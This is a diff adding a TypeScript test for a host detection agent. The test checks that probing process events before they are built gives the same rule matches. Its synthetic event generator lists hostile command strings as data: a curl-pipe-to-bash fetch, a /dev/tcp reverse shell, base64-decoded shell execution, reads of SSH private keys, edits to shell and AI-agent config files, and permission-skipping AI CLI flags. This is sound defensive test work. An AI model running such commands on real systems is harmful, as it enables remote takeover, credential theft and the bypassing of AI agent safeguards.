@@ -1,0 +1,154 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { DetectionEngine, type EngineMatch } from '../../src/agent/detection-engine.js';
+import { DocumentDemand } from '../../src/agent/document-demand.js';
+import { eventTime } from '../../src/agent/agent.js';
+import type { HostIdentity } from '../../src/collectors/host-identity.js';
+import type { RawEvent, RawProcess } from '../../src/collectors/raw-event.js';
+import type { EcsEvent } from '../../src/ecs/ecs-event.js';
+import { Normalizer } from '../../src/normalize/normalizer.js';
+import { RuleSet } from '../../src/rules/rule-set.js';
+import { seededRandom } from '../helpers/seeded-random.js';
+import { bundledRulesDir } from '../rules/project-paths.js';
+
+type Rand = () => number;
+const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
+
+const HOST: HostIdentity = {
+  platform: 'linux', hostId: 'probe-test-host', bootId: 'boot', bootTimeMs: 1_759_000_000_000, clockTicksPerSecond: 100,
+  hostname: 'probe', architecture: 'x86_64', os: { type: 'linux', family: 'debian', name: 'Debian', version: '12', kernel: '6.1.0' },
+};
+
+/** Programs and arguments the bundled rules look for, among plain ones. */
+const NAMES = ['bash', 'sh', 'node', 'python3', 'curl', 'wget', 'claude', 'codex', 'gemini', 'base64', 'tar', 'crontab', 'systemctl', 'nc', 'socat', 'gcc', 'exec-nop', 'tee', 'cp', 'ls'];
+const ARGS = [
+  '--yolo', '--dangerously-skip-permissions', '--full-auto', '-c', 'curl http://a.example/x.sh | bash', '/root/.ssh/id_rsa', '-e', '/bin/sh',
+  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec:/bin/sh', 'tcp:1.2.3.4:80', 'enable', 'x.service', '-', '/tmp/cron',
+  '/x/@anthropic-ai/claude-code/cli.js', '-s', 'echo aGk= | base64 -d | sh', 'echo x > /root/.bashrc', '/root/.claude/settings.json', 'sed -i s/a/b/ /root/.codex/config.toml', 'plain',
+];
+const DIRS = ['/usr/bin/', '/tmp/', '/home/u/.local/share/claude/versions/'];
+
+interface Proc { readonly pid: number; readonly startKey: string; readonly ppid: number; readonly parentStartKey: string; startTimeMs: number; comm: string; image?: Partial<RawProcess> }
+
+/** A random process tree on Linux: forks, execs of the programs above, exits, connects out. */
+function stream(r: Rand, n: number): RawEvent[] {
+  const base = { backend: 'ebpf', platform: 'linux' } as const;
+  let t = 1_760_000_000_000;
+  let nextPid = 1000;
+  const raw = (p: Proc): RawProcess => ({
+    pid: p.pid, startKey: p.startKey, startTimeMs: p.startTimeMs, ppid: p.ppid, parentStartKey: p.parentStartKey, comm: p.comm,
+    uid: 1000, gid: 1000, euid: 1000, egid: 1000, groupLeaderPid: p.pid, sessionLeaderPid: 1, ...p.image,
+  });
+  const live: Proc[] = [{ pid: 900, startKey: '1', ppid: 1, parentStartKey: '0', startTimeMs: t - 1000, comm: 'bash' }];
+  const out: RawEvent[] = [];
+  while (out.length < n) {
+    t += 1 + Math.floor(r() * 5);
+    const x = r();
+    const p = pick(r, live);
+    if (x < 0.35 || live.length < 3) {
+      const child: Proc = { pid: nextPid++, startKey: String(t), ppid: p.pid, parentStartKey: p.startKey, startTimeMs: t, comm: p.comm };
+      live.push(child);
+      out.push({ ...base, kind: 'fork', timeMs: t, process: raw(child) });
+    } else if (x < 0.7) {
+      const name = pick(r, NAMES);
+      const args = [name, ...Array.from({ length: Math.floor(r() * 4) }, () => pick(r, ARGS))];
+      p.comm = name.slice(0, 15);
+      p.image = { executable: `${pick(r, DIRS)}${name}`, args, cwd: '/home/u' };
+      out.push({ ...base, kind: 'exec', timeMs: t, process: raw(p) });
+    } else if (x < 0.85) {
+      out.push({
+        ...base, kind: 'connect', timeMs: t, transport: 'tcp', family: 'ipv4', result: -115,
+        source: { ip: '10.0.0.2', port: 40000 }, destination: { ip: pick(r, ['8.8.8.8', '127.0.0.1', '1.2.3.4']), port: 443 }, process: raw(p),
+      });
+    } else if (live.length > 3) {
+      live.splice(live.indexOf(p), 1);
+      out.push({ ...base, kind: 'exit', timeMs: t, exitCode: 0, process: raw(p) });
+    }
+  }
+  return out;
+}
+
+/** What a match shows, without the per-normalizer random part of `event.id`. */
+function shown(matches: readonly EngineMatch[]): unknown[] {
+  const strip = (e: EcsEvent | null): unknown => {
+    if (e === null) return null;
+    const { id: _id, ...event } = e['event'] as Record<string, unknown>;
+    return { ...e, event };
+  };
+  return matches.map((m) => ({ rule: m.rule.meta.id, joinKeys: m.joinKeys, events: m.events.map(strip) }));
+}
+
+function run(ruleSet: RuleSet, events: readonly RawEvent[], probing: boolean): { matches: unknown[]; normalizer: Normalizer } {
+  const clock = { now: 0 };
+  const normalizer = new Normalizer({ host: HOST, agent: { id: 'probe', version: '0' }, nowMs: () => clock.now });
+  const demand = new DocumentDemand(ruleSet, { logsEveryEvent: false, ruleBudgetMs: 0 });
+  const engine = new DetectionEngine(ruleSet, { timestamp: eventTime, maxSequencesPerRule: 10_000, defaultLifetimeMs: 300_000 });
+  const matches: EngineMatch[] = [];
+  for (const raw of events) {
+    clock.now = raw.timeMs;
+    if (!demand.wants(raw.platform, raw.kind)) {
+      normalizer.track(raw);
+      continue;
+    }
+    const doc = normalizer.normalize(raw, probing ? demand.probe(raw.platform, raw.kind) : null);
+    if (doc !== null) matches.push(...engine.process(doc));
+  }
+  matches.push(...engine.flush());
+  return { matches: shown(matches), normalizer };
+}
+
+test('bundled rules: the same matches, event for event, with process documents probed before they are built', () => {
+  const ruleSet = RuleSet.load([bundledRulesDir], { os: 'linux' });
+  const events = stream(seededRandom(5122026), 30_000);
+  const plain = run(ruleSet, events, false);
+  const probed = run(ruleSet, events, true);
+  assert.deepEqual(probed.matches, plain.matches);
+  const rules = new Set(plain.matches.map((m) => (m as { rule: string }).rule));
+  assert.ok(plain.matches.length >= 50, `only ${plain.matches.length} matches: the stream must exercise the rules`);
+  assert.ok(rules.size >= 8, `only ${rules.size} rules matched: ${[...rules].join(', ')}`);
+  const s = probed.normalizer.stats();
+  assert.ok(s.probedOut > 5000, `only ${s.probedOut} documents left unbuilt`);
+  assert.equal(s.out + s.probedOut, plain.normalizer.stats().out, 'every document is either built or counted as probed out');
+});
+
+function rulesFrom(queries: readonly string[]): RuleSet {
+  const dir = mkdtempSync(join(tmpdir(), 'vigil-probe-'));
+  try {
+    queries.forEach((q, i) => writeFileSync(join(dir, `r${i}.eql`), `${q}\n`));
+    return RuleSet.load([dir], { os: 'linux' });
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+test('no probe where a stage reads what the partial document lacks, or where every event is logged', () => {
+  const probes = (queries: string[], logsEveryEvent = false): boolean =>
+    new DocumentDemand(rulesFrom(queries), { logsEveryEvent }).probe('linux', 'exec') !== null;
+  assert.equal(probes(['process where process.name == "nc"']), true);
+  assert.equal(probes(['process where process.name == "nc" and user.name == "root" and event.action == "exec"']), true);
+  assert.equal(probes(['process where process.name == "nc"'], true), false, 'an events log wants every document');
+  assert.equal(probes(['process where process.name == "nc" and host.name == "h"']), false, 'host.* is not in the partial document');
+  assert.equal(probes(['process where process.name == "nc" and @timestamp > 0']), false);
+  assert.equal(probes(['process where event.id != null']), false, 'event.id differs per event');
+  assert.equal(probes(['process where process.name == "nc"', 'any where agent.id == "x"']), false, 'one such stage is enough');
+  assert.equal(new DocumentDemand(rulesFrom(['network where destination.port == 4']), { logsEveryEvent: false }).probe('linux', 'connect'), null, 'network documents are not probed');
+});
+
+test('a probe skips rules the engine disabled, and lets a document through when its filters outrun the budget', () => {
+  const ruleSet = rulesFrom(['process where process.name == "nc"']);
+  const nc = { ecs: { version: '8' }, event: { category: ['process'], type: ['start'], action: 'exec' }, process: { name: 'nc' } } as unknown as EcsEvent;
+  const other = { ...nc, process: { name: 'ls' } } as EcsEvent;
+  let disabled = false;
+  const d = new DocumentDemand(ruleSet, { logsEveryEvent: false, disabled: () => disabled });
+  const probe = d.probe('linux', 'exec')!;
+  assert.equal(probe(nc), true);
+  assert.equal(probe(other), false);
+  disabled = true;
+  assert.equal(probe(nc), false, 'a disabled rule takes nothing');
+  // a budget no evaluation can meet: every document goes to the engine, which times the rule itself
+  const slow = new DocumentDemand(ruleSet, { logsEveryEvent: false, ruleBudgetMs: 1e-9 }).probe('linux', 'exec')!;
+  assert.equal(slow(other), true);
+});
